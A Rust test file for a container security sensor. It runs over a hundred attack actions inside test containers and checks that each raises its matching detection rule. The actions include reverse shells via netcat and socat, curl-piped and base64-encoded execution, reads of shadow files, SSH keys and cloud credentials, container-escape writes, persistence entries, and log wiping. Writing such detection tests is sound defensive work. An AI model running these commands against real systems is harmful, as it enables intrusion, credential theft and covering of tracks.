//! Attack actions in real containers: each raises its own detection, with its container, image and chain of processes.
//!
//! Each action is a script of its own in the container's root, so that its path in the chain of processes says which
//! action an alert is about. Nothing leaves the containers: connections are made in networks of the actions' own.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::os::unix::fs::symlink;
use std::process::Command;
use std::sync::Arc;

use plimsoll_runtime::event::{Event, Process, State};
use plimsoll_runtime::rules::{Nothing, builtin};
use plimsoll_runtime::sensor::Settings;
use plimsoll_testing::{Harbour, IMAGE};

use crate::harbour;

/// Detections that no action here meets, and why.
const NOT_TRIED: &[(&str, &str)] = &[(
    "PW032",
    "a module that loads is a change of this machine's kernel: done in emulated machines, `guest.rs`",
)];

/// An action: what it is, what a shell in the container does, the detection that it must raise.
type Attack = (&'static str, &'static str, &'static str);

#[rustfmt::skip]
const ATTACKS: &[Attack] = &[
    // Programs that are not of the image.
    ("dropped program", "cp /bin/busybox /srv/tool; /srv/tool", "PW001"),
    ("dropped and renamed", "cp /bin/busybox /srv/a; mv /srv/a /srv/b; /srv/b", "PW001"),
    ("program replaced", "cp /bin/busybox /srv/true; cp /srv/true /usr/bin/plain; chmod 755 /usr/bin/plain; /usr/bin/plain", "PW001"),
    ("program in memory", "/attacks memory", "PW002"),
    ("program in memory by path", "/attacks memory-by-path", "PW002"),
    ("program in /tmp", "cp /bin/busybox /tmp/tool; /tmp/tool", "PW003"),
    ("script in /var/tmp", "printf '#!/bin/sh\\ntrue\\n' > /var/tmp/run; chmod 700 /var/tmp/run; /var/tmp/run", "PW003"),
    ("made executable", "echo x > /tmp/new; chmod +x /tmp/new", "PW004"),
    ("made executable by descriptor", "echo x > /tmp/new2; /attacks mode-by-descriptor /tmp/new2", "PW004"),
    ("apt-get", "apt-get install nmap", "PW005"),
    ("pip", "pip install evil", "PW005"),
    ("apk", "apk add nmap", "PW005"),
    ("program added", "echo x > /usr/bin/added", "PW006"),
    ("program moved", "echo x > /srv/moved; mv /srv/moved /usr/bin/moved", "PW006"),
    ("program exchanged", "echo x > /srv/exchanged; /attacks exchange /srv/exchanged /usr/bin/exchanged", "PW006"),
    ("program linked", "ln /bin/busybox /usr/bin/linked", "PW006"),
    ("program symlinked", "ln -s /srv/evil /usr/bin/evil", "PW006"),
    ("library replaced", "echo x > /usr/lib/libc.so.6", "PW006"),
    ("set-user-id", "cp /bin/busybox /srv/root; chmod 4755 /srv/root", "PW007"),
    ("set-group-id", "cp /bin/busybox /srv/group; chmod g+s /srv/group", "PW007"),
    // The loader.
    ("preload for all", "echo /tmp/evil.so > /etc/ld.so.preload", "PW010"),
    ("preload for all, moved", "echo /tmp/evil.so > /srv/preload; mv /srv/preload /etc/ld.so.preload", "PW010"),
    ("LD_PRELOAD", "LD_PRELOAD=/tmp/evil.so /bin/true", "PW011"),
    ("LD_AUDIT", "LD_AUDIT=/dev/shm/evil.so /bin/true", "PW011"),
    ("LD_LIBRARY_PATH", "LD_LIBRARY_PATH=/var/tmp/lib /bin/true", "PW011"),
    ("GLIBC_TUNABLES", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true", "PW012"),
    // Out of the container. What would change this machine is done to a file of the same name.
    ("release agent", "mkdir -p /srv/cgroup; echo /srv/a > /srv/cgroup/release_agent", "PW020"),
    ("notify on release", "mkdir -p /srv/cgroup; echo 1 > /srv/cgroup/notify_on_release", "PW020"),
    ("core pattern", "mkdir -p /srv/proc/sys/kernel; echo '|/srv/a' > /srv/proc/sys/kernel/core_pattern", "PW021"),
    ("modprobe", "mkdir -p /srv/proc/sys/kernel; echo /srv/a > /srv/proc/sys/kernel/modprobe", "PW021"),
    ("uevent helper", "mkdir -p /srv/sys/kernel; echo /srv/a > /srv/sys/kernel/uevent_helper", "PW021"),
    ("binfmt", "mkdir -p /srv/binfmt_misc; echo :x:M::x::/srv/a:C > /srv/binfmt_misc/register", "PW021"),
    ("sysrq", "mkdir -p /srv/proc; echo h > /srv/proc/sysrq-trigger", "PW022"),
    ("disk made", "mknod /srv/sda b 254 250", "PW023"),
    ("disk read", "mknod /dev/vdz b 7 0; /attacks read /dev/vdz", "PW024"),
    ("runtime's socket", "/attacks socket /run/docker.sock", "PW025"),
    ("containerd's socket", "/attacks socket /run/containerd/containerd.sock", "PW025"),
    ("root of process 1", "/attacks outside /proc/1/root/etc/passwd", "PW026"),
    ("folder of process 1", "/attacks outside /proc/1/cwd/etc/passwd", "PW026"),
    ("chroot to process 1", "/attacks chroot /proc/1/root", "PW026"),
    ("namespace entered", "/attacks enter", "PW027"),
    ("namespace of a process entered", "/attacks enter-by-process", "PW027"),
    ("user namespace", "/attacks user-namespace", "PW028"),
    ("child in a user namespace", "/attacks child-in-user-namespace", "PW028"),
    ("mount", "/attacks mount", "PW029"),
    ("bind mount", "/attacks bind", "PW029"),
    ("mount moved", "/attacks move-mount", "PW029"),
    ("chroot to the host", "/attacks chroot /host", "PW030"),
    ("file by handle", "/attacks handle", "PW031"),
    ("BPF program", "/attacks bpf", "PW033"),
    // Other processes.
    ("attach and poke", "/attacks attach", "PW040"),
    ("seize", "/attacks seize", "PW040"),
    ("memory read", "/attacks read-memory", "PW040"),
    ("memory written", "/attacks write-memory", "PW040"),
    ("environment read", "cat /proc/1/environ", "PW041"),
    ("memory by a tool", "head -c 1 /proc/1/mem", "PW041"),
    ("io_uring", "/attacks ring", "PW042"),
    ("userfaultfd", "/attacks faults", "PW043"),
    // Shells.
    ("reverse shell", "/attacks reverse", "PW050"),
    ("bind shell", "/attacks bound", "PW050"),
    ("shell of nginx", "nginx spawn /bin/sh -c 'id; :'", "PW051"),
    ("shell of java", "java spawn /bin/sh -c 'id; :'", "PW051"),
    ("shell of postgres", "postgres spawn /bin/sh -c 'id; :'", "PW051"),
    ("shell with a terminal", "/attacks terminal", "PW052"),
    ("/dev/tcp", "sh -c 'true || exec 3<>/dev/tcp/127.0.0.1/1; :'", "PW053"),
    ("netcat", "/usr/bin/nc -e /bin/sh 127.0.0.1 1", "PW054"),
    ("netcat of busybox", "busybox nc 127.0.0.1 1 -e /bin/sh", "PW054"),
    ("socat", "socat TCP:127.0.0.1:1 EXEC:/bin/sh", "PW054"),
    ("python", "python3 -c 'import socket,pty'", "PW055"),
    ("perl", "perl -e 'use Socket;'", "PW055"),
    ("php", "php -r 'fsockopen(\"127.0.0.1\",1);'", "PW055"),
    ("download run", "sh -c 'true || curl http://127.0.0.1/x | sh; :'", "PW056"),
    ("encoded run", "sh -c 'true || echo aWQ= | base64 -d | sh; :'", "PW057"),
    // Secrets.
    ("shadow", "cat /etc/shadow", "PW060"),
    ("sudoers", "cat /etc/sudoers", "PW060"),
    ("shadow by the shell", "read line < /etc/shadow", "PW060"),
    ("shadow of busybox", "busybox cat /etc/shadow", "PW060"),
    ("token", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "PW061"),
    ("cloud credentials", "cat /root/.aws/credentials", "PW062"),
    ("private key", "cat /root/.ssh/id_rsa", "PW062"),
    ("cluster's configuration", "cat /root/.kube/config", "PW062"),
    ("registry's credentials", "cat /root/.docker/config.json", "PW062"),
    ("keys searched", "grep -r 'PRIVATE KEY' /etc", "PW063"),
    ("key files searched", "busybox find /etc -name id_rsa", "PW063"),
    ("set-user-id files searched", "busybox find /bin -perm -4000", "PW063"),
    ("metadata service", "/attacks connect 169.254.169.254 80", "PW064"),
    // The cluster.
    ("kubectl", "kubectl get secrets", "PW070"),
    ("docker", "docker ps", "PW070"),
    ("API server", "curl -k https://kubernetes.default/api/v1/secrets", "PW071"),
    ("kubelet", "/attacks connect 127.0.0.1 10250", "PW072"),
    ("etcd", "/attacks connect 127.0.0.1 2379", "PW072"),
    ("scanner", "nmap -sT 127.0.0.1", "PW073"),
    ("raw packets", "/attacks packets", "PW074"),
    ("data in names", "/attacks ask aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.exit.example", "PW075"),
    // Miners.
    ("miner", "xmrig -o 127.0.0.1:1", "PW080"),
    ("miner by its arguments", "plainly -o stratum+tcp://127.0.0.1:1", "PW080"),
    ("pool looked up", "/attacks ask pool.minexmr.com", "PW081"),
    ("pool contacted", "/attacks connect 127.0.0.1 3333", "PW081"),
    // To stay.
    ("crontab", "echo '* * * * * root /srv/a' > /etc/crontab", "PW090"),
    ("job of a user", "echo '* * * * * /srv/a' > /var/spool/cron/root", "PW090"),
    ("job moved", "echo x > /srv/job; mv /srv/job /etc/cron.d/job", "PW090"),
    ("unit", "echo x > /etc/systemd/system/evil.service", "PW091"),
    ("script of init", "echo x > /etc/init.d/evil", "PW091"),
    ("keys for login", "echo ssh-ed25519 > /root/.ssh/authorized_keys", "PW092"),
    ("start-up file", "echo /srv/a >> /root/.bashrc", "PW093"),
    ("start-up file of all", "echo /srv/a >> /etc/profile", "PW093"),
    ("user added", "useradd evil", "PW094"),
    ("user written", "echo evil:x:0:0::/:/bin/sh >> /etc/passwd", "PW094"),
    ("web shell", "nginx write /srv/www/shell.php", "PW095"),
    ("web shell of java", "java write /srv/www/shell.jsp", "PW095"),
    ("symlink to shadow", "ln -s /etc/shadow /srv/link", "PW096"),
    ("link to passwd", "ln /etc/passwd /srv/hard", "PW096"),
    ("sudo", "sudo id", "PW097"),
    // To hide, and to harm.
    ("history removed", "rm /root/.bash_history", "PW100"),
    ("history emptied", "cp /dev/null /root/.ash_history", "PW100"),
    ("history moved", "mv /root/.zsh_history /srv/z", "PW100"),
    ("log emptied", ": > /var/log/syslog", "PW101"),
    ("log removed", "rm /var/log/auth.log", "PW101"),
    ("shred", "/usr/bin/shred -u /srv/a", "PW102"),
    ("disk overwritten", "busybox dd if=/dev/zero of=/dev/null count=0", "PW102"),
    ("SELinux off", "setenforce 0", "PW103"),
    ("firewall off", "iptables -F", "PW103"),
];

/// Names of programs that do nothing here: the name and the arguments are what is seen.
const NAMES: &[&str] = &[
    "apt-get",
    "pip",
    "apk",
    "nginx",
    "java",
    "postgres",
    "nc",
    "socat",
    "python3",
    "perl",
    "php",
    "curl",
    "kubectl",
    "docker",
    "nmap",
    "xmrig",
    "plainly",
    "useradd",
    "sudo",
    "shred",
    "setenforce",
    "iptables",
];

/// What is in the root of the containers beside busybox.
fn furnish(harbour: &Harbour) {
    let lower = harbour.lower();
    let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sensor/attacks.c");
    let compiled = Command::new("cc")
        .args(["-static", "-O1", "-w", "-o"])
        .arg(lower.join("attacks"))
        .arg(source)
        .output()
        .unwrap();
    assert!(compiled.status.success(), "{}", String::from_utf8_lossy(&compiled.stderr));
    for applet in ["mknod", "head", "grep", "find", "dd", "id"] {
        symlink("busybox", lower.join("bin").join(applet)).unwrap();
    }
    let folders = [
        "srv/www",
        "var/tmp",
        "usr/bin",
        "usr/lib",
        "run/containerd",
        "host",
        "root/.aws",
        "root/.ssh",
        "root/.kube",
        "root/.docker",
        "var/run/secrets/kubernetes.io/serviceaccount",
        "var/spool/cron",
        "var/log",
        "etc/cron.d",
        "etc/systemd/system",
        "etc/init.d",
        "scripts",
    ];
    for folder in folders {
        std::fs::create_dir_all(lower.join(folder)).unwrap();
    }
    for name in NAMES {
        symlink("/attacks", lower.join("usr/bin").join(name)).unwrap();
    }
    let files = [
        "etc/sudoers",
        "var/run/secrets/kubernetes.io/serviceaccount/token",
        "root/.aws/credentials",
        "root/.ssh/id_rsa",
        "root/.kube/config",
        "root/.docker/config.json",
        "root/.bash_history",
        "root/.ash_history",
        "root/.zsh_history",
        "var/log/syslog",
        "var/log/auth.log",
        "usr/bin/exchanged",
        "usr/bin/plain",
        "usr/lib/libc.so.6",
    ];
    for file in files {
        std::fs::write(lower.join(file), "x\n").unwrap();
    }
    for (number, (_, command, _)) in ATTACKS.iter().enumerate() {
        std::fs::write(lower.join(script(number)), format!("{command}\n:\n")).unwrap();
    }
}

fn script(number: usize) -> String {
    format!("scripts/{number}")
}

/// The action that an event belongs to: the script that is running in its chain.
fn attack(event: &Event) -> Option<usize> {
    let of = |process: &Arc<Process>| {
        let script = process.arguments.get(1)?.strip_prefix("/scripts/")?;
        script.parse::<usize>().ok()
    };
    std::iter::once(&event.process).chain(&event.ancestors).find_map(of)
}

#[test]
fn every_attack_raises_its_own_detection() {
    let Some(harbour) = harbour::open("attacks") else { return };
    furnish(&harbour);
    let mut engine = builtin::engine();
    let settings = Settings { only_containers: true, ..Settings::asked_by(&engine) };
    // A few actions in each container: those that follow still find the root as it was.
    const IN_ONE: usize = 21;
    let mut containers: BTreeMap<String, std::ops::Range<usize>> = BTreeMap::new();
    let (events, counts) = harbour::watch(&settings, |_| {
        for first in (0..ATTACKS.len()).step_by(IN_ONE) {
            let range = first..(first + IN_ONE).min(ATTACKS.len());
            let script = range.clone().fold(String::new(), |mut script, number| {
                // What fails says so in the container's own file.
                let _ =
                    writeln!(script, "echo {number} >> /said; sh /{} >> /said 2>&1", self::script(number));
                script
            });
            let id = harbour.run(&["/bin/sh", "-c", &format!("PATH=/bin:/usr/bin\n{script}true")], &[]);
            containers.insert(id, range);
        }
    });
    assert_eq!((counts.lost_must, counts.lost_may, counts.unreadable), (0, 0, 0));
    let mut raised: Vec<BTreeSet<String>> = vec![BTreeSet::new(); ATTACKS.len()];
    let mut wrong = String::new();
    for event in events.iter().filter(|event| containers.contains_key(&event.container.id)) {
        for rule in engine.evaluate(event, &Nothing).to_vec() {
            let Some(number) = attack(event) else { continue };
            let id = engine.rules()[rule].own.id.clone();
            if id != ATTACKS[number].2 {
                raised[number].insert(id);
                continue;
            }
            let alert = engine.alert(rule, event, &Nothing);
            let place = &alert.container;
            // The chain leads from who did it to the first process of the container.
            let chain = std::iter::once(&alert.process).chain(&alert.parents);
            let first = event.ancestors.iter().find(|process| process.inner_id == 1);
            let right = place.state == State::Known
                && containers[&place.id].contains(&number)
                && place.image == IMAGE
                && place.pod.uid == plimsoll_testing::pod()
                && chain.clone().any(|actor| actor.command_line.contains(&script(number)))
                && first.is_some_and(|first| chain.clone().any(|actor| actor.id == first.id));
            if right {
                raised[number].insert(id);
            } else {
                let _ = writeln!(wrong, "{}: {alert:?}", ATTACKS[number].0);
            }
        }
    }
    for (number, ((name, command, id), raised)) in ATTACKS.iter().zip(&raised).enumerate() {
        if !raised.contains(*id) {
            let seen: Vec<&Event> = events
                .iter()
                .filter(|event| containers.contains_key(&event.container.id) && attack(event) == Some(number))
                .collect();
            let _ = writeln!(
                wrong,
                "{name} (`{command}`) did not raise {id} but {raised:?}; seen:\n{}",
                harbour::lines(&seen)
            );
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    assert!(ATTACKS.len() >= 60);
}

#[test]
fn every_detection_is_attacked_or_said_not_to_be() {
    let attacked: BTreeSet<&str> = ATTACKS.iter().map(|(_, _, id)| *id).collect();
    let engine = builtin::engine();
    let all: BTreeSet<&str> = engine.rules().iter().map(|rule| rule.own.id.as_str()).collect();
    let not: BTreeSet<&str> = NOT_TRIED.iter().map(|(id, _)| *id).collect();
    assert!(NOT_TRIED.iter().all(|(_, why)| !why.is_empty()));
    assert_eq!(attacked.union(&not).copied().collect::<BTreeSet<_>>(), all);
    assert!(attacked.is_disjoint(&not));
}
